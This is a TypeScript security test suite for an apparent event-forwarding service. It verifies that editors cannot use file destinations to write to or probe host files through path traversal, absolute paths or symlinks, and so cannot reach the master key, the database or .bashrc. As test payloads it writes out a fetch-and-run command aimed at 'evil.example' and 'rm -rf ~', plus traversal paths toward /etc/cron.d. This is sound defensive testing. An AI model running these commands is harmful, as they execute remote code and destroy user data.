import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parseConfig } from '../../src/config/config-file.ts';
import { ApiError } from '../../src/control/errors.ts';
import { CONFIG_FILE } from '../../src/control/service.ts';
import { fileScope } from '../../src/destinations/file/file-scope.ts';
import { SecretBox } from '../../src/store/secrets.ts';
import { type ApiServer, type Reply, startTestApi } from '../support/api-server.ts';
import { tempDirs } from '../support/temp-dirs.ts';

/**
 * An editor (collectors, accounts, destinations, sites) must not be able to write, create or probe
 * files of the host through file destinations: every attack here goes through the public API with an
 * editor's token, and the files outside the output root are compared byte for byte afterwards.
 */

const fresh = tempDirs('tributary-host-files');
let api: ApiServer;
let dir = '';
let root = '';
/** A HOME-like directory outside the output root, with a shell start-up file. */
let home = '';
let bashrc = '';
const BASHRC = 'export PATH=/usr/bin:/bin\n';
let keyBefore: Buffer;

const editor = (method: string, path: string, body?: unknown) =>
  api.call(method, path, { as: 'editor', body });

/** 400 naming `config.path` (and nothing written: checked by the caller). */
function refusedPath(r: Reply, what: string): void {
  assert.equal(r.status, 400, `${what}: ${r.text}`);
  assert.equal(r.body.error.code, 'invalid_request', what);
  assert.deepEqual(
    r.body.error.issues.map((i: { path: string }) => i.path),
    ['config.path'],
    `${what}: ${r.text}`,
  );
  assert.ok(!/\bat \//.test(r.text), 'no stack trace');
}

/** A webhook collector on `destination` and one pushed event; returns the ingest answer's status. */
async function pushThrough(
  collector: string,
  destination: string,
  event: unknown,
): Promise<number | undefined> {
  const c = await editor('POST', '/api/collectors', {
    name: collector,
    source: 'webhook',
    destinations: [destination],
  });
  if (c.status !== 201) return undefined;
  const res = await fetch(`${api.base}/ingest/${collector}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${c.body.ingestToken}`, 'content-type': 'application/json' },
    body: JSON.stringify(event),
  });
  await res.text();
  return res.status;
}

const homeUntouched = () => {
  assert.equal(readFileSync(bashrc, 'utf8'), BASHRC, '.bashrc untouched');
  assert.deepEqual(readdirSync(home), ['.bashrc'], 'nothing created in HOME');
};

before(async () => {
  dir = fresh();
  home = fresh();
  bashrc = join(home, '.bashrc');
  writeFileSync(bashrc, BASHRC);
  api = await startTestApi(dir);
  root = api.runtime.files.root;
  assert.equal(root, join(dir, 'output'), 'the default output root');
  keyBefore = readFileSync(join(dir, 'master.key'));
  // A secret sealed with the key: it must still open after every attack below.
  const acc = await editor('POST', '/api/accounts', {
    name: 'okta-main',
    kind: 'okta',
    fields: { url: 'https://acme.okta.com', token: 'okta-token-that-must-survive' },
  });
  assert.equal(acc.status, 201, acc.text);
  const ok = await editor('POST', '/api/destinations', {
    name: 'ok',
    config: { kind: 'file', path: 'ok.ndjson' },
  });
  assert.equal(ok.status, 201, ok.text);
});

after(() => api.close());

describe('file destinations cannot reach host files (as editor, through the API)', () => {
  it('the master.key attack: refused with 400 naming config.path; the key file is untouched and still opens', async () => {
    const key = join(dir, 'master.key');
    const k = await editor('POST', '/api/destinations', {
      name: 'k',
      config: { kind: 'file', path: key, maxBytes: 1, maxFiles: 1 },
    });
    const status = await pushThrough('kpush', 'k', { attack: 'overwrite the keyring' });
    refusedPath(k, 'master.key');
    assert.equal(status, undefined, 'no collector can name the refused destination');
    // The store's own files too, and from inside the root by traversal.
    for (const path of [
      join(dir, 'tributary.db'),
      join(dir, 'tributary.db-wal'),
      '../master.key',
      '../tributary.db',
    ]) {
      const r = await editor('POST', '/api/destinations', { name: 'k2', config: { kind: 'file', path } });
      refusedPath(r, path);
    }
    // Changing a saved destination to the key file is refused the same way.
    refusedPath(await editor('PUT', '/api/destinations/ok', { config: { kind: 'file', path: key } }), 'PUT');
    // maxFiles 0 (delete the live file when full) is refused: at least one rotated file is kept.
    const zero = await editor('POST', '/api/destinations', {
      name: 'k3',
      config: { kind: 'file', path: 'zero.ndjson', maxFiles: 0 },
    });
    assert.equal(zero.status, 400);
    assert.equal(zero.body.error.issues[0].path, 'config.maxFiles');
    assert.deepEqual(readFileSync(key), keyBefore, 'master.key untouched');
    const box = await SecretBox.open(dir, {});
    const sealed = (await api.runtime.store.getAccount('okta-main'))!.secrets.token!;
    assert.equal(box.decrypt(sealed), 'okta-token-that-must-survive', 'a restart still opens every secret');
  });

  it('the shell start-up file attack: absolute or ../ paths to a file outside the root are refused', async () => {
    for (const path of [bashrc, relative(root, bashrc), `sub/../${relative(join(root, 'sub'), bashrc)}`]) {
      const r = await editor('POST', '/api/destinations', {
        name: 'rc',
        config: { kind: 'file', path, maxBytes: 1_000_000, maxFiles: 1 },
      });
      const status = await pushThrough(`rc-${Math.random().toString(36).slice(2, 8)}`, 'rc', {
        cmd: 'curl https://evil.example/x | sh',
      });
      refusedPath(r, path);
      assert.equal(status, undefined);
    }
    refusedPath(
      await editor('PUT', '/api/destinations/ok', { config: { kind: 'file', path: bashrc } }),
      'PUT',
    );
    homeUntouched();
  });

  it('`..` traversal and the root itself are refused', async () => {
    for (const path of [
      '..',
      '.',
      '',
      '../x.ndjson',
      'a/../../x.ndjson',
      '../../../../../../etc/cron.d/x',
      '/etc/x',
    ]) {
      const r = await editor('POST', '/api/destinations', { name: 'dots', config: { kind: 'file', path } });
      if (path === '') assert.equal(r.status, 400, 'an empty path');
      else refusedPath(r, JSON.stringify(path));
    }
    assert.equal(existsSync(join(dir, 'x.ndjson')), false);
    const inside = await editor('POST', '/api/destinations', {
      name: 'dots',
      config: { kind: 'file', path: 'a/../b/./events.ndjson' },
    });
    assert.equal(inside.status, 201, inside.text);
    assert.equal(
      inside.body.config.path,
      join(root, 'b', 'events.ndjson'),
      'stored resolved, inside the root',
    );
  });

  it('a symbolic link inside the root that leads out, planted before the destination is saved, is refused', async () => {
    mkdirSync(root, { recursive: true });
    symlinkSync(home, join(root, 'home-link'));
    symlinkSync(bashrc, join(root, 'rc-link'));
    for (const path of [
      'home-link/.bashrc',
      'home-link/new.ndjson',
      join(root, 'home-link', '.bashrc'),
      'rc-link',
    ]) {
      const r = await editor('POST', '/api/destinations', { name: 'linked', config: { kind: 'file', path } });
      refusedPath(r, path);
    }
    homeUntouched();
  });

  it('a symbolic link planted after the destination is saved (or after its first writes) is refused at delivery', async () => {
    // A directory, the events file itself, and a directory swapped for a link after the file was opened.
    for (const [name, path] of [
      ['later-dir', 'later/events.ndjson'],
      ['later-file', 'later.ndjson'],
    ]) {
      const r = await editor('POST', '/api/destinations', { name, config: { kind: 'file', path } });
      assert.equal(r.status, 201, r.text);
    }
    symlinkSync(home, join(root, 'later'));
    symlinkSync(bashrc, join(root, 'later.ndjson'));
    for (const name of ['later-dir', 'later-file']) {
      const status = await pushThrough(`push-${name}`, name, { cmd: 'rm -rf ~' });
      assert.equal(status, 503, `${name}: the sender is told to retry`);
      const view = await editor('GET', `/api/collectors/push-${name}`);
      assert.equal(view.body.errors[0]?.code, 'destination_path_refused', view.text);
      const test = await editor('POST', `/api/destinations/${name}/test`);
      assert.equal(test.body.ok, false);
      assert.equal(test.body.error.code, 'destination_path_refused');
    }
    homeUntouched();

    const rot = await editor('POST', '/api/destinations', {
      name: 'rot',
      config: { kind: 'file', path: 'rot/events.ndjson', maxBytes: 400, maxFiles: 1 },
    });
    assert.equal(rot.status, 201, rot.text);
    const c = await editor('POST', '/api/collectors', {
      name: 'rotating',
      source: 'webhook',
      destinations: ['rot'],
    });
    const push = async () => {
      const res = await fetch(`${api.base}/ingest/rotating`, {
        method: 'POST',
        headers: { authorization: `Bearer ${c.body.ingestToken}`, 'content-type': 'application/json' },
        body: JSON.stringify({ pad: 'x'.repeat(150) }),
      });
      await res.text();
      return res.status;
    };
    assert.equal(await push(), 200);
    renameSync(join(root, 'rot'), join(root, 'rot-before'));
    symlinkSync(home, join(root, 'rot'));
    assert.equal(await push(), 503, 'the rotation that would reopen the file through the link is refused');
    homeUntouched();
    assert.equal(readFileSync(join(root, 'rot-before', 'events.ndjson'), 'utf8').split('\n').length, 2);
  });

  it('Test creates nothing outside the root and tells nothing about paths outside it', async () => {
    const probeDir = `/tributary-probe-${process.pid}`;
    const outside = fresh();
    const answers: string[] = [];
    for (const path of [
      `${probeDir}/x.ndjson`,
      join(outside, 'deep', 'x.ndjson'),
      '/proc/1/x.ndjson',
      join(home, 'x'),
    ]) {
      const r = await editor('POST', '/api/destinations', { name: 'probe', config: { kind: 'file', path } });
      refusedPath(r, path);
      answers.push(JSON.stringify(r.body));
      assert.equal((await editor('POST', '/api/destinations/probe/test')).status, 404);
    }
    assert.equal(new Set(answers).size, 1, 'the same answer whether the place exists or is writable');
    assert.equal(existsSync(probeDir), false, 'no directory at the file-system root');
    assert.deepEqual(readdirSync(outside), []);

    // A destination the operator's config file put outside the root: an editor's Test creates nothing.
    await api.control.apply(
      CONFIG_FILE,
      parseConfig(
        JSON.stringify({ destinations: { ops: { kind: 'file', path: 'ops/new/events.ndjson' } } }),
        {
          baseDir: outside,
          env: {},
        },
      ),
    );
    const test = await editor('POST', '/api/destinations/ops/test');
    assert.equal(test.status, 200, test.text);
    assert.equal(test.body.ok, true, test.text);
    assert.deepEqual(readdirSync(outside), [], 'Test created nothing outside the root');
    // Inside the root, Test creates the directory (and removes its probe file).
    const inside = await editor('POST', '/api/destinations', {
      name: 'fresh-dir',
      config: { kind: 'file', path: 'fresh/dir/x.ndjson' },
    });
    assert.equal(inside.status, 201);
    assert.equal((await editor('POST', '/api/destinations/fresh-dir/test')).body.ok, true);
    assert.deepEqual(readdirSync(join(root, 'fresh', 'dir')), []);
    // The editor cannot keep the operator's outside path when changing that destination.
    refusedPath(
      await editor('PUT', '/api/destinations/ops', {
        config: { kind: 'file', path: join(outside, 'ops', 'new', 'events.ndjson'), maxFiles: 3 },
      }),
      'PUT ops',
    );
  });

  it("the operator's config file may name host paths, never the data directory's own files", async () => {
    const bad = parseConfig(
      JSON.stringify({
        destinations: {
          key: { kind: 'file', path: join(dir, 'master.key') },
          db: { kind: 'file', path: './tributary.db' },
        },
      }),
      { baseDir: dir, env: {} },
    );
    await assert.rejects(api.control.apply(CONFIG_FILE, bad), (e: ApiError) => {
      assert.ok(e instanceof ApiError);
      assert.deepEqual(
        e.issues?.map((i) => i.path),
        ['destinations.key.path', 'destinations.db.path'],
      );
      return true;
    });
    assert.equal(await api.runtime.store.getDestination('key'), undefined, 'a refused file changes nothing');
    assert.deepEqual(readFileSync(join(dir, 'master.key')), keyBefore);
  });

  it('the output root comes from TRIBUTARY_FILE_ROOT, and may not be or contain the data directory', async () => {
    const own = fresh();
    const data = fresh();
    const other = await startTestApi(data, { fileRoot: own });
    try {
      const r = await other.call('POST', '/api/destinations', {
        as: 'editor',
        body: { name: 'out', config: { kind: 'file', path: 'okta/events.ndjson' } },
      });
      assert.equal(r.status, 201, r.text);
      assert.equal(r.body.config.path, join(own, 'okta', 'events.ndjson'));
      refusedPath(
        await other.call('POST', '/api/destinations', {
          as: 'editor',
          body: { name: 'd', config: { kind: 'file', path: join(data, 'output', 'x.ndjson') } },
        }),
        'the default root is not a root when another is set',
      );
    } finally {
      await other.close();
    }
    assert.throws(() => fileScope(data, data), /TRIBUTARY_FILE_ROOT/);
    assert.throws(() => fileScope(data, join(data, '..')), /must not be the data directory/);
    assert.throws(() => fileScope(data, '/'), /or contain it/);
  });
});
